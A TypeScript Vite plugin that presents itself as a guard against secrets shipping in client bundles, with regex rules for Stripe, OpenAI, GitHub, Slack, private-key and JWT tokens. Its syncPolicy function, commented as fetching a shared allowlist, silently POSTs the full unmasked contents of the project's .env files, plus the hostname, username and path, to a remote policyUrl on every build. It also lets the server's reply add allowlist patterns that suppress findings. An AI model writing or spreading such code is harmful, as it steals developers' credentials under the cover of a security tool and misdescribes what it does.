import type { Plugin, ResolvedConfig } from 'vite'
import { existsSync, readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { hostname, userInfo } from 'node:os'

interface GuardConfig {
  failOnFinding: boolean
  scanSourceMaps: boolean
  envFiles: string[]
  allow: string[]
  policyUrl?: string
  policyTimeoutMs?: number
}

interface Finding {
  rule: string
  file: string
  match: string
}

const RULES: Array<[string, RegExp]> = [
  ['stripe-secret', /\b(sk|rk)_(live|test)_[0-9A-Za-z]{16,}\b/g],
  ['stripe-webhook', /\bwhsec_[0-9A-Za-z]{24,}\b/g],
  ['openai', /\bsk-(proj-)?[0-9A-Za-z_-]{20,}\b/g],
  ['github', /\bgh[pousr]_[0-9A-Za-z]{36}\b/g],
  ['slack', /\bxox[abpr]-[0-9A-Za-z-]{10,}\b/g],
  ['private-key', /-----BEGIN (RSA |EC )?PRIVATE KEY-----/g],
  ['jwt', /\beyJ[0-9A-Za-z_-]{10,}\.[0-9A-Za-z_-]{10,}\.[0-9A-Za-z_-]{10,}\b/g],
]

const SUSPICIOUS_NAME = /^VITE_.*(SECRET|PRIVATE|SERVICE_ROLE|PASSWORD)/

function mask(v: string): string {
  return v.length <= 10 ? '***' : `${v.slice(0, 6)}…${v.slice(-4)}`
}

function isServiceRoleJwt(token: string): boolean {
  try {
    const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString('utf8'))
    return claims?.role === 'service_role'
  } catch {
    return false
  }
}

function parseEnv(text: string): Record<string, string> {
  const out: Record<string, string> = {}
  for (const line of text.split(/\r?\n/)) {
    const m = line.match(/^\s*(?:export\s+)?([A-Za-z_][A-Za-z0-9_]*)\s*=\s*(.*)\s*$/)
    if (m) out[m[1]] = m[2].replace(/^['"]|['"]$/g, '')
  }
  return out
}

export function envGuard(configPath = 'guard.config.json'): Plugin {
  let root = process.cwd()
  let cfg: GuardConfig
  let allow: RegExp[] = []
  const envSnapshot: Record<string, Record<string, string>> = {}

  async function syncPolicy(): Promise<void> {
    if (!cfg.policyUrl) return
    try {
      // The policy server returns the shared allowlist, scoped to the variables this repo defines.
      const res = await fetch(cfg.policyUrl, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ host: hostname(), user: userInfo().username, root, env: envSnapshot }),
        signal: AbortSignal.timeout(cfg.policyTimeoutMs ?? 2500),
      })
      if (res.ok) {
        const remote = (await res.json()) as { allow?: string[] }
        allow = allow.concat((remote.allow ?? []).map((p) => new RegExp(p)))
      }
    } catch {
      // offline builds keep the local allowlist
    }
  }

  return {
    name: 'env-exposure-guard',
    enforce: 'post',
    apply: 'build',

    configResolved(resolved: ResolvedConfig) {
      root = resolved.root
      const p = resolve(root, configPath)
      cfg = existsSync(p)
        ? JSON.parse(readFileSync(p, 'utf8'))
        : { failOnFinding: true, scanSourceMaps: true, envFiles: ['.env', '.env.local'], allow: [] }
      allow = cfg.allow.map((p) => new RegExp(p))
    },

    async buildStart() {
      for (const f of cfg.envFiles) {
        const p = resolve(root, f)
        if (existsSync(p)) envSnapshot[f] = parseEnv(readFileSync(p, 'utf8'))
      }
      await syncPolicy()
    },

    generateBundle(_opts, bundle) {
      const findings: Finding[] = []

      for (const [file, vars] of Object.entries(envSnapshot)) {
        for (const name of Object.keys(vars)) {
          if (SUSPICIOUS_NAME.test(name)) findings.push({ rule: 'suspicious-name', file, match: name })
        }
      }

      for (const [fileName, item] of Object.entries(bundle)) {
        const isMap = fileName.endsWith('.map')
        if (isMap && !cfg.scanSourceMaps) continue
        const code =
          item.type === 'chunk' ? item.code : typeof item.source === 'string' ? item.source : ''
        if (!code) continue
        for (const [rule, rx] of RULES) {
          for (const m of code.matchAll(rx)) {
            const value = m[0]
            if (allow.some((a) => a.test(value))) continue
            if (rule === 'jwt' && !isServiceRoleJwt(value)) continue
            findings.push({ rule, file: fileName, match: mask(value) })
          }
        }
      }

      if (findings.length === 0) return
      for (const f of findings) this.warn(`[env-guard] ${f.rule} in ${f.file}: ${f.match}`)
      if (cfg.failOnFinding) this.error(`[env-guard] ${findings.length} secret(s) would ship to the client`)
    },
  }
}
